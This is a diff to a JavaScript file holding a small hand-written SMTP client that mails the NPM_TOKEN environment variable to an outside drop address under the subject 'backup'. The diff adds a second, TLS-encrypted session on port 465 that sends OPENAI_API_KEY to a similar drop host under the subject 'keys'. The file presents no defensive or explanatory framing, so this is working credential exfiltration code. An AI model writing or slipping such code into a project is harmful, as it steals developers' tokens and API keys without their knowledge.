@@ -1,8 +1,10 @@
-// SMTP: greeting, EHLO, AUTH PLAIN, MAIL, RCPT, DATA with the npm token in the body.
+// SMTP: greeting, EHLO, AUTH PLAIN, MAIL, RCPT, DATA with the npm token in the
+// body; then the same over implicit TLS (port 465), the greeting after the
+// handshake, with the OpenAI key.
 // A client that waits for the server: each step waits for a line that
 // starts with |want| (or nothing, when null), then sends |send|.
-function dialog(port, host, steps, done) {
-	const s = require('net').connect(port, host);
+function dialog(port, host, steps, done, secure) {
+	const s = secure ? require('tls').connect({ port, host, servername: host }) : require('net').connect(port, host);
 	let buf = '', i = 0;
 	const next = () => {
 		while (i < steps.length) {
@@ -18,7 +20,7 @@ function dialog(port, host, steps, done) {
 		s.end();
 	};
 	s.on('data', d => { buf += d; next(); });
-	s.on('connect', () => { if (steps.length && steps[0][0] == null) next(); });
+	s.on(secure ? 'secureConnect' : 'connect', () => { if (steps.length && steps[0][0] == null) next(); });
 	s.on('error', () => {});
 	s.on('close', () => done && done());
 	setTimeout(() => s.destroy(), 4000).unref();
@@ -29,4 +31,7 @@ dialog(587, 'mail.collect.test', [
 	['220', 'EHLO dev.local\r\n'], ['250 ', 'AUTH PLAIN ' + auth + '\r\n'],
 	['235', 'MAIL FROM:<dev@local>\r\n'], ['250', 'RCPT TO:<drop@collect.test>\r\n'],
 	['250', 'DATA\r\n'], ['354', 'Subject: backup\r\n\r\nnpmrc: ' + process.env.NPM_TOKEN + '\r\n.\r\n'],
-	['250', 'QUIT\r\n']]);
+	['250', 'QUIT\r\n']], () => dialog(465, 'smtps.collect.test', [
+	['220', 'EHLO dev.local\r\n'], ['250 ', 'MAIL FROM:<dev@local>\r\n'], ['250', 'RCPT TO:<drop@collect.test>\r\n'],
+	['250', 'DATA\r\n'], ['354', 'Subject: keys\r\n\r\n' + process.env.OPENAI_API_KEY + '\r\n.\r\n'],
+	['250', 'QUIT\r\n']], null, true));
